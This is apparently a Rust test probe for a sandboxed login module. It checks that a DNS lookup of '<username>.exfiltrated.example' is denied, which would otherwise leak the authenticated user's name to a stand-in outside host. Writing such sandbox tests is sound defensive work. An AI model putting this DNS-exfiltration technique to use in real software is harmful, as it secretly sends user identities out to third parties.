//! Asks for the address of a name, which may carry a message. Expected: `capability-denied`.

use std::net::ToSocketAddrs;

use vestibule_probes::{Login, Outcome, pass, probe};

probe!(post_auth);

fn post_auth(login: Login) -> Result<Outcome, String> {
    let name = format!("{}.exfiltrated.example", login.authret.user);
    (name.as_str(), 443).to_socket_addrs().map_err(|error| error.to_string())?;
    Ok(pass(login))
}
